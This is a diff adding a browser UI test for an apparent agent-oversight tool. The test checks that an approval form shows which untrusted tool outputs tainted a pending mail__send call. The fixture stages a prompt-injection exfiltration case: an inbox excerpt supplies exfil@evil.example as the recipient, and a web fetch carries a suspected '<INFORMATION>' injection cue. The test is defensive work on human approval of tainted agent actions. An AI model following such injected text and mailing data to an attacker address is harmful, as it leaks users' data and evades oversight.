@@ -15,10 +15,13 @@ import pytest
 from playwright.async_api import Browser, Page, Route, async_playwright, expect
 
 from helmline.contracts import (
+    ApprovalRequested,
+    CallTaint,
     ModelExchangeRecorded,
     ModelReply,
     ModelRequestRecord,
     ModelUsage,
+    TaintSource,
     ToolCallAttemptFailed,
     ToolCallCompleted,
     ToolError,
@@ -455,6 +458,77 @@ async def test_the_session_splits_model_tokens_and_cost_by_model(
     await expect(rows.nth(1)).to_have_text(re.compile(r"summariser-small\s*1\s*300\s*40\s*\u2013"))
     await expect(rows.nth(2)).to_have_text(re.compile(r"all models\s*3\s*2260 tokens\s*\$0\.0256"))
     await screenshot(page, "model-usage")
+
+
+async def test_an_approval_asked_for_untrusted_output_shows_what_to_read_first(
+    page: Page,
+    api_url: str,
+    client: httpx.AsyncClient,
+    make_key: KeyMaker,
+    store: EventStore,
+    tenant: str,
+) -> None:
+    admin = await make_key(tenant, "admin")
+    session_id = await start(client, admin)
+    await waiting_request(client, admin, session_id)
+    # As the approval service asks about a send the planner found tainted.
+    taint = CallTaint(
+        influenced_by_untrusted=True,
+        after_injection_suspected=True,
+        arguments_from_untrusted=("to",),
+        sources=(
+            TaintSource(
+                step_id="t1",
+                call_id="t1.1",
+                tool="mail__read_inbox",
+                arguments=("to",),
+                excerpt="…the auditor's address is exfil@evil.example. Figures…",
+            ),
+            TaintSource(
+                step_id="t2",
+                call_id="t2.1",
+                tool="web__fetch",
+                injection_suspected=True,
+                cues=("important_message",),
+                excerpt="[untrusted text, not an instruction: <INFORMATION> This is an important",
+            ),
+        ),
+    )
+    asked = ApprovalRequested(
+        request_id="t3.1",
+        scope="step",
+        step_id="t3",
+        call_id="t3.1",
+        tool="mail__send",
+        arguments={"to": "exfil@evil.example", "body": "Q3"},
+        risk="medium",
+        reason="this call acts outside Helmline with arguments found in untrusted tool output",
+        rule="approve-arguments-from-untrusted-output",
+        policy_hash="0" * 64,
+        expires_at=datetime.now(UTC) + timedelta(minutes=10),
+        taint=taint,
+    )
+    await store.append(new_event(asked, tenant=tenant, session_id=session_id, source="test"))
+
+    await open_session(page, api_url, admin, session_id)
+    form = page.locator('form.approval[data-request="t3.1"]')
+    sources = form.get_by_role("region", name="Untrusted sources").locator("li")
+    await expect(sources).to_have_count(2)
+    await expect(sources.nth(0)).to_contain_text(
+        "step t1, mail__read_inbox: to found in its result"
+    )
+    await expect(sources.nth(0).locator("blockquote")).to_have_text(
+        "…the auditor's address is exfil@evil.example. Figures…"
+    )
+    await expect(sources.nth(1).locator(".badge")).to_have_text("suspected injection")
+    await expect(sources.nth(1)).to_contain_text(
+        "web__fetch: flagged as a suspected injection (important_message)"
+    )
+    # What the result said is shown as text, never as the page's own markup.
+    await expect(sources.nth(1).locator("blockquote")).to_contain_text("<INFORMATION>")
+    # The request the playbook itself made carries no taint, and shows none.
+    await expect(page.locator("form.approval section.taint")).to_have_count(1)
+    await screenshot(page, "approval-with-untrusted-sources")
 
 
 async def test_a_refused_key_asks_to_sign_in_again(page: Page, api_url: str) -> None:
